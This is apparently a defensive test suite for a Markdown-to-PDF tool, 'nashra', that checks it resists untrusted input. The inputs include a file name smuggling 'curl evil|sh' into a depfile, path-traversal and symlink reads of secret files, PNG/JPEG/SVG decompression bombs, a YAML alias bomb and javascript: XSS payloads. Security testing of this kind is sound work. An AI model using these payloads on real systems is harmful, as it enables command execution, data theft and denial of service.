"""The attacks of issue 11, as a contributor's pull request would try them on a CI job that
builds its brief: each must end with the expected exit status and a located message, within
2 s of CPU and 500 MB of memory (the child's own rusage, from wait4), leave no temporary file,
and put no byte of a file outside the project root into stdout, stderr or any output.
usage: test_untrusted.py NASHRA SOURCE_ROOT"""
import os
import re
import shutil
import stat
import struct
import subprocess
import sys
import tempfile
import time
import unittest
import zlib

NASHRA, ROOT = os.path.abspath(sys.argv[1]), sys.argv[2]
del sys.argv[1:3]
DATA = os.path.join(ROOT, 'tests', 'data')

SECRET = 'NASHRA-SECRET-7f3a9c'
CPU_LIMIT = 2.0
RSS_LIMIT_KB = 500 * 1024


def png(width, height, depth=1, colour=0, truncate=0):
    """A PNG of WIDTH x HEIGHT zero pixels: a 23000-square one-bit image is some 64 kB."""
    def chunk(kind, data):
        return (struct.pack('>I', len(data)) + kind + data +
                struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff))
    row = b'\0' + b'\0' * ((width * depth + 7) // 8)
    z = zlib.compressobj(9)
    body = b''.join(z.compress(row) for _ in range(height)) + z.flush()
    data = (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, depth,
                                                              colour, 0, 0, 0)) +
            chunk(b'IDAT', body) + chunk(b'IEND', b''))
    return data[:len(data) - truncate] if truncate else data


def jpeg(width, height):
    """tests/data/dunes.jpg (1.6 kB) with the size its frame header declares changed."""
    with open(os.path.join(DATA, 'dunes.jpg'), 'rb') as f:
        d = bytearray(f.read())
    i = 2
    while d[i + 1] not in (0xC0, 0xC1, 0xC2):
        i += 2 + int.from_bytes(d[i + 2:i + 4], 'big')
    d[i + 5:i + 9] = struct.pack('>HH', height, width)
    return bytes(d)


def run(args, cwd, stdin=None, timeout=30):
    """Runs nashra; returns (exit status, stdout, stderr, cpu seconds, peak rss kB)."""
    p = subprocess.Popen([NASHRA] + args, cwd=cwd, stdin=subprocess.PIPE if stdin else None,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    # Popen's own wait would reap the child: wait4 must, to read the child's own rusage.
    p.returncode = 0
    try:
        out, err = p.communicate(stdin, timeout=timeout)
    except subprocess.TimeoutExpired:
        p.kill()
        p.communicate()
        raise AssertionError(f'nashra {args} did not finish in {timeout} s')
    finally:
        p.returncode = None
    _, status, usage = os.wait4(p.pid, 0)
    p.returncode = os.waitstatus_to_exitcode(status)
    return (p.returncode, out, err.decode('utf-8', 'replace'), usage.ru_utime + usage.ru_stime,
            usage.ru_maxrss)


class Untrusted(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix='nashra-untrusted-')
        self.proj = os.path.join(self.tmp, 'proj')
        self.outside = os.path.join(self.tmp, 'outside')
        os.makedirs(self.proj)
        os.makedirs(self.outside)
        # Files a source must not read: a "key", an ini, a JSON, an image with the secret in it.
        self.write(self.outside, 'id_ed25519', f'-----BEGIN KEY-----\n{SECRET}\n' * 20)
        self.write(self.outside, 'secret.ini', f'[page]\nsize={SECRET}\n{SECRET}\n')
        self.write(self.outside, 'refs.json', f'[{{"id": "{SECRET}", "title": "{SECRET}"}}]')
        img = png(8, 8)
        img = img[:-12] + self.text_chunk(SECRET) + img[-12:]
        self.write(self.outside, 'secret.png', img)

    def tearDown(self):
        shutil.rmtree(self.tmp, ignore_errors=True)

    @staticmethod
    def text_chunk(text):
        data = b'Comment\0' + text.encode()
        return (struct.pack('>I', len(data)) + b'tEXt' + data +
                struct.pack('>I', zlib.crc32(b'tEXt' + data) & 0xffffffff))

    @staticmethod
    def write(d, name, data):
        path = os.path.join(d, name)
        with open(path, 'wb' if isinstance(data, bytes) else 'w') as f:
            f.write(data)
        return path

    def brief(self, body, front=''):
        return self.write(self.proj, 'in.md', f'---\ntitle: t\n{front}---\n\n{body}\n')

    def attack(self, args, rc, message=None, where=None, stdin=None, allow=()):
        """Runs nashra in the project; checks status, message, place, cost and leaks."""
        before = set(os.listdir(self.proj))
        code, out, err, cpu, rss = run(args, self.proj, stdin)
        self.assertEqual(code, rc, err[-800:])
        if message:
            self.assertRegex(err, message)
        if where:
            self.assertRegex(err, r'(^|\n)' + re.escape('%s:%d:%d: ' % where))
        self.assertLess(cpu, CPU_LIMIT, f'{cpu:.2f} s of CPU')
        self.assertLess(rss, RSS_LIMIT_KB, f'{rss // 1024} MB peak')
        self.assertNotIn(SECRET, err)
        self.assertNotIn(SECRET.encode(), out)
        after = set(os.listdir(self.proj))
        for name in after - before:
            self.assertIn(name, allow, f'left behind: {name}')
            with open(os.path.join(self.proj, name), 'rb') as f:
                self.assertNotIn(SECRET.encode(), f.read(), name)
        return err

    # 1. Commands through --depfile.
    def test_01_depfile_injection(self):
        self.write(self.proj, 'a\n\tcurl evil|sh\nb.png', png(4, 4))
        self.brief('![x](a%0A%09curl%20evil%7Csh%0Ab.png)\n')
        self.attack(['in.md', '--depfile', 'out.d'], 1, r'line break', ('in.md', 5, 1))
        self.assertFalse(os.path.exists(os.path.join(self.proj, 'out.d')))

    def test_01_depfile_colon(self):
        self.write(self.proj, 'c:d.png', png(4, 4))
        self.brief('![x](c:d.png)\n')
        self.attack(['in.md', '--depfile', 'out.d'], 0, allow=('in.pdf', 'out.d'))
        with open(os.path.join(self.proj, 'Makefile'), 'w') as f:
            f.write('include out.d\n')
        # make reads the escaped colon as part of the file name: nothing to do.
        r = subprocess.run(['make', '-n', '-q', 'in.pdf'], cwd=self.proj, capture_output=True,
                           text=True)
        self.assertNotIn('No rule', r.stderr)
        with open(os.path.join(self.proj, 'out.d')) as f:
            self.assertIn(r'c\:d.png', f.read())

    # 2. Reading any file.
    def test_02_template_outside(self):
        key = os.path.join(self.outside, 'id_ed25519')
        self.brief('text\n', f'template: {key}\n')
        self.attack(['in.md'], 1, r'outside the project root', ('in.md', 3, 1))

    def test_02_template_dotdot_symlink(self):
        os.symlink(os.path.join(self.outside, 'secret.ini'), os.path.join(self.proj, 'look.ini'))
        self.brief('text\n', 'template: look.ini\n')
        self.attack(['in.md'], 1, r'outside the project root', ('in.md', 3, 1))

    def test_02_bibliography_outside(self):
        self.brief('text [@x]\n', 'bibliography: ../outside/refs.json\n')
        self.attack(['in.md'], 1, r'outside the project root', ('in.md', 3, 15))

    def test_02_figure_outside(self):
        for i, ref in enumerate([os.path.join(self.outside, 'secret.png'),
                                 '../outside/secret.png', 'link.png']):
            if ref == 'link.png':
                os.symlink(os.path.join(self.outside, 'secret.png'),
                           os.path.join(self.proj, 'link.png'))
            self.brief(f'![map]({ref})\n')
            self.attack(['in.md'], 1, r'outside the project root', ('in.md', 5, 1))

    def test_02_root_widens(self):
        self.brief('![map](../outside/secret.png)\n')
        self.attack(['in.md', '--root', self.tmp, '-o', os.path.join(self.tmp, 'o.pdf')], 0)

    # 3. A crash: wider than Cairo's 32767.
    def test_03_wide_jpeg(self):
        self.write(self.proj, 'wide.jpg', jpeg(40000, 8))
        self.brief('para\n\n![wide](wide.jpg)\n')
        for extra in ([], ['--check']):
            self.attack(['in.md'] + extra, 1, r'wide\.jpg', ('in.md', 7, 1))

    # 4. Decompression bombs.
    def test_04_jpeg_bomb(self):
        self.write(self.proj, 'bomb.jpg', jpeg(30000, 30000))
        self.brief('![b](bomb.jpg)\n')
        self.attack(['in.md'], 1, r'pixels', ('in.md', 5, 1))

    def test_04_png_bomb(self):
        self.write(self.proj, 'bomb.png', png(23000, 23000))
        self.brief('![b](bomb.png)\n')
        self.attack(['in.md'], 1, r'pixels', ('in.md', 5, 1))

    def test_04_svg_nested_bomb(self):
        import base64
        inner = base64.b64encode(png(23000, 23000)).decode()
        self.write(self.proj, 'n.svg', '<svg xmlns="http://www.w3.org/2000/svg" '
                   'xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
                   f'<image width="10" height="10" xlink:href="data:image/png;base64,{inner}"/>'
                   '</svg>')
        self.brief('![b](n.svg)\n')
        self.attack(['in.md'], 1, r'pixels', ('in.md', 5, 1))

    def test_04_svg_use_bomb(self):
        parts = ['<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
                 ' width="10" height="10"><defs><rect id="a0" width="1" height="1"/>']
        for i in range(1, 12):
            parts.append(f'<g id="a{i}">' + f'<use xlink:href="#a{i - 1}"/>' * 10 + '</g>')
        parts.append('</defs><use xlink:href="#a11"/></svg>')
        self.write(self.proj, 'u.svg', ''.join(parts))
        self.brief('![b](u.svg)\n')
        self.attack(['in.md'], 1, None, ('in.md', 5, 1))

    # 5. YAML aliases.
    def test_05_yaml_aliases(self):
        lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]']
        for i in range(1, 10):
            lines.append(f'a{i}: &a{i} [' + ', '.join([f'*a{i - 1}'] * 10) + ']')
        lines.append('keywords: *a9')
        self.brief('text\n', '\n'.join(lines) + '\n')
        # At the alias whose expansion passes the cap (a5's fifth *a4).
        self.attack(['in.md'], 1, r'aliases expand to more than', ('in.md', 7, 45))

    # 6. A large minified bibliography, in time linear in its size.
    def test_06_csl_json(self):
        items = ','.join(f'{{"id":"k{i}","type":"book","title":"Title {i}",'
                         f'"author":[{{"family":"F{i}","given":"G"}}],"issued":{{"date-parts":[[2020]]}}}}'
                         for i in range(10000))
        self.write(self.proj, 'refs.json', f'[{items}]')
        self.brief('text [@k9999]\n', 'bibliography: refs.json\n')
        self.attack(['in.md'], 0, allow=('in.pdf',))

    # 7. Unbounded reads and hangs.
    def test_07_dev_zero_input(self):
        os.symlink('/dev/zero', os.path.join(self.proj, 'zero.md'))
        self.attack(['zero.md', '--max-input-mb', '1'], 1,
                    r'zero\.md: error: input is more than 1 MB; the limit is 1 MB')

    def test_07_fifo_figure(self):
        os.mkfifo(os.path.join(self.proj, 'pipe.png'))
        self.brief('![p](pipe.png)\n')
        self.attack(['in.md'], 1, r'not a regular file', ('in.md', 5, 1))

    def test_07_bibliography_device(self):
        os.symlink('/dev/zero', os.path.join(self.proj, 'refs.json'))
        self.brief('text\n', 'bibliography: refs.json\n')
        self.attack(['in.md', '--root', '/'], 1, r'not a regular file', ('in.md', 3, 15))

    # 8. Slow titles.
    def test_08_long_title(self):
        self.write(self.proj, 'in.md', '---\ntitle: ' + 'ب' * 50000 + '\n---\n\ntext\n')
        code, _, err, cpu, _ = run(['in.md'], self.proj)
        self.assertLess(cpu, CPU_LIMIT, f'{cpu:.2f} s')
        self.assertIn(code, (0, 1), err[-500:])
        if code:
            self.assertRegex(err, r'in\.md:2:\d+: error: ')

    # 9. Silent loss.
    def test_09_truncated_png(self):
        self.write(self.proj, 'cut.png', png(64, 64, depth=8, truncate=40))
        self.brief('![c](cut.png)\n')
        for extra in ([], ['--check']):
            self.attack(['in.md'] + extra, 1, r'cut\.png', ('in.md', 5, 1))

    def test_09_truncated_jpeg(self):
        self.write(self.proj, 'cut.jpg', jpeg(64, 48)[:900])
        self.brief('![c](cut.jpg)\n')
        self.attack(['in.md'], 1, r'cut\.jpg', ('in.md', 5, 1))

    # 10. Output.
    def test_10_depfile_names_source(self):
        self.brief('text\n')
        self.attack(['in.md', '--depfile', 'in.md'], 2, r'depfile')
        with open(os.path.join(self.proj, 'in.md')) as f:
            self.assertIn('text', f.read())

    def test_10_png_pages_as_a_set(self):
        self.brief('\n\n'.join(f'paragraph {i} ' * 40 for i in range(60)))
        self.attack(['in.md', '-t', 'png', '--dpi', '20', '-o', 'p'], 0,
                    allow=tuple(f'p-{i}.png' for i in range(1, 30)))
        many = len([n for n in os.listdir(self.proj) if n.startswith('p-')])
        self.assertGreater(many, 1)
        self.brief('short\n')
        self.attack(['in.md', '-t', 'png', '--dpi', '20', '-o', 'p'], 0)
        self.assertEqual(sorted(n for n in os.listdir(self.proj) if n.startswith('p-')),
                         ['p-1.png'])

    def test_10_long_name_and_mode(self):
        self.brief('text\n')
        name = 'n' * 246 + '.pdf'
        self.attack(['in.md', '-o', name], 0, allow=(name,))
        os.chmod(os.path.join(self.proj, name), 0o640)
        self.attack(['in.md', '-o', name], 0)
        self.assertEqual(stat.S_IMODE(os.stat(os.path.join(self.proj, name)).st_mode), 0o640)

    def test_10_html_and_links(self):
        self.brief('<script>alert(1)</script>\n\n[x](javascript:alert(1)) '
                   '<a href="javascript:alert(2)">y</a>\n')
        self.attack(['in.md', '-t', 'html'], 0, allow=('in.html',))
        with open(os.path.join(self.proj, 'in.html')) as f:
            html = f.read()
        # The page's one script element is its JSON-LD metadata, which no browser runs.
        data = '<script type="application/ld+json">'
        self.assertEqual(html.count('<script'), html.count(data))
        self.assertNotIn('javascript:', html)
        self.attack(['in.md'], 0, allow=('in.pdf',))
        q = subprocess.run(['qpdf', '--qdf', '--object-streams=disable', 'in.pdf', '-'],
                           cwd=self.proj, capture_output=True)
        self.assertNotIn(b'javascript', q.stdout.lower())

    # 11. Input that is not a text file.
    def test_11_pdf_as_source(self):
        self.brief('text\n')
        self.attack(['in.md', '-o', 'x.pdf'], 0, allow=('x.pdf',))
        err = self.attack(['x.pdf', '-o', 'y.pdf'], 1, r'not a text file')
        self.assertLess(err.count('\n'), 5)
        self.assertFalse(os.path.exists(os.path.join(self.proj, 'y.pdf')))


if __name__ == '__main__':
    unittest.main(verbosity=2)
